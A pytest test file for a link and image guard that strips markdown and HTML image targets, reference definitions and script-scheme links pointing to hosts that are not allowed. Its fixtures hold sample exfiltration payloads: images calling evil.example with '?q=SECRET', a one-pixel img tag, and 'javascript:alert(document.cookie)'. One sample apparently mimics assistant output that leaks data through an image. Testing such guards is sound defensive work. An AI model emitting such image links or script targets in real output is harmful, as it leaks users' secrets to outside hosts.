"""Image and link exfiltration: foreign hosts lose their targets, allowed ones stay."""

from __future__ import annotations

import pytest

from bulkhead.guard import LinkPolicy
from bulkhead.guard._links import url_host

POLICY = LinkPolicy(("docs.example.com", "*.cdn.example.net"))


def strip(text: str, policy: LinkPolicy = POLICY) -> str:
    out, position = [], 0
    for s in sorted(policy.find(text), key=lambda s: s.start):
        out += [text[position : s.start], s.replacement]
        position = s.end
    return "".join([*out, text[position:]])


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://evil.example/?q=1", "evil.example"),
        ("HTTP://User:pw@Evil.Example:8443/x", "evil.example"),
        ("//evil.example/x", "evil.example"),
        ("https://[2001:db8::1]/x", "[2001:db8::1]"),
        ("/relative/path.png", None),
        ("data:image/png;base64,AAAA", None),
    ],
)
def test_url_host(url: str, host: str | None) -> None:
    assert url_host(url) == host


def test_image_to_a_foreign_host_loses_its_target() -> None:
    text = "Done! ![chart](https://evil.example/log?q=SECRET) see above"
    assert strip(text) == "Done! ![chart] see above"


def test_images_to_allowed_hosts_and_relative_ones_stay() -> None:
    text = (
        "![a](https://docs.example.com/a.png) ![b](https://img.cdn.example.net/b.png) "
        "![c](/static/c.png)"
    )
    assert strip(text) == text


def test_wildcard_allows_subdomains_only() -> None:
    assert strip("![x](https://cdn.example.net/x)") == "![x]"


def test_links_stay_unless_strip_links() -> None:
    text = "read [the docs](https://evil.example/?q=1)"
    assert strip(text) == text
    strict = LinkPolicy((), strip_links=True)
    assert strip(text, strict) == "read [the docs]"


@pytest.mark.parametrize(
    "text",
    ["[click](javascript:alert(1))", "[click](JaVaScRiPt:alert(document.cookie))",
     "[click]( vbscript:msgbox(1) )", "![x](javascript:alert(1))"],
)  # fmt: skip
@pytest.mark.parametrize("policy", [POLICY, LinkPolicy((), strip_links=True)])
def test_javascript_targets_never_stay(text: str, policy: LinkPolicy) -> None:
    """Not even as a plain link that the policy keeps, and with no parenthesis left behind."""
    assert strip(text, policy) in ("[click]", "![x]")


def test_html_images_are_removed() -> None:
    text = 'look <img src="https://evil.example/p.gif?d=SECRET" width=1> here'
    assert strip(text) == "look  here"
    kept = '<img src="https://docs.example.com/p.png">'
    assert strip(kept) == kept


def test_reference_definitions_point_nowhere() -> None:
    text = "![logo][1]\n\n[1]: https://evil.example/x?d=SECRET\n"
    assert strip(text) == "![logo][1]\n\n[1]: #\n"


def test_titles_are_part_of_the_target() -> None:
    assert strip('![x](https://evil.example/a "a title") end') == "![x] end"


def test_nothing_is_stripped_when_off() -> None:
    off = LinkPolicy((), strip_images=False)
    text = "![x](https://evil.example/a)"
    assert not off.active and strip(text, off) == text
